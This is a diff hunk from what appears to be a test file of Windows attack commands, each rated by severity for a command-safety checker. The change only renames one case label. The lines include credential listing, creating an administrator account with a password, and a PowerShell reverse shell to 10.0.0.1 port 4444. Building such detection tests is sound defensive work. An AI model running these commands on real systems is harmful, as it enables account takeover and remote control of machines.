@@ -70,7 +70,7 @@ export const windowsAttackCases: CallCheckCases = {
     'stored credentials': ['cmdkey /list', 'high'],
     'an account made administrator': ['net localgroup administrators eve /add', 'critical'],
     'an account': ['net user eve Passw0rd1 /add', 'high'],
-    'a shell for whoever answers': [
+    'a shell for the other end of a socket': [
       "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 4444); $s = $c.GetStream(); iex $data",
       'critical',
     ],
